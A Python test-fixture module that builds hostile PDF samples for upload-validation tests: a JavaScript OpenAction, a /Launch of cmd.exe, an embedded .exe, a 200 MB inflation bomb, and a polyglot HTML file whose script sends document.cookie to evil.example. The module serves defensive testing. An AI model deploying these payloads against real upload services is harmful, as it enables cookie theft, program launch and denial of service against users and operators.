"""PDF files built byte by byte for the upload tests: a valid one-page document and hostile variants.

Each is a complete file with a correct cross-reference table, so a refusal is for what it carries, not for a
broken structure.
"""
from __future__ import annotations

import zlib


def build(objects: list[bytes], root: int = 1) -> bytes:
    """A PDF of the given object bodies (numbered from 1), with its xref table and trailer."""
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    for offset in offsets:
        out += b"%010d 00000 n \n" % offset
    out += b"trailer\n<< /Size %d /Root %d 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, xref)
    return bytes(out)


def stream(data: bytes, extra: bytes = b"", compress: bool = False) -> bytes:
    if compress:
        data = zlib.compress(data, 9)
        extra += b" /Filter /FlateDecode"
    return b"<< /Length %d%s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


def one_page(text: str = "Acta de prueba", catalog_extra: bytes = b"", page_extra: bytes = b"",
             more: list[bytes] | None = None, content: bytes | None = None) -> bytes:
    body = content if content is not None else stream(
        b"BT /F1 18 Tf 72 720 Td (" + text.encode("latin-1") + b") Tj ET")
    return build([
        b"<< /Type /Catalog /Pages 2 0 R" + catalog_extra + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >>" + page_extra + b" >>",
        body,
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        *(more or []),
    ])


VALID = one_page()
WITH_JAVASCRIPT = one_page(catalog_extra=b" /OpenAction 6 0 R",
                           more=[b"<< /Type /Action /S /JavaScript /JS (app.alert\\('hola'\\)) >>"])
WITH_LAUNCH = one_page(page_extra=b" /AA << /O << /S /Launch /F (cmd.exe) >> >>")
WITH_EMBEDDED_FILE = one_page(
    catalog_extra=b" /Names << /EmbeddedFiles << /Names [(x.exe) 6 0 R] >> >>",
    more=[b"<< /Type /Filespec /F (x.exe) /EF << /F 7 0 R >> >>",
          stream(b"MZ not really", b" /Type /EmbeddedFile")])
# What the assessment sent: an HTML page that starts with %PDF- so that a check of the first bytes passes.
POLYGLOT_HTML = (b"%PDF-1.4\n<html><body><script>document.location='https://evil.example/?c='+document.cookie"
                 b"</script><h1>Acta</h1></body></html>\n%%EOF\n")


def inflation_bomb(expanded: int = 200 * 1024 * 1024) -> bytes:
    """A one-page PDF whose content stream inflates to ``expanded`` bytes (200 MB from about 200 KB)."""
    deflater = zlib.compressobj(9)
    zeros = b"\0" * (1024 * 1024)
    packed = b"".join(deflater.compress(zeros) for _ in range(expanded // len(zeros))) + deflater.flush()
    return one_page(content=b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(packed) + packed +
                    b"\nendstream")
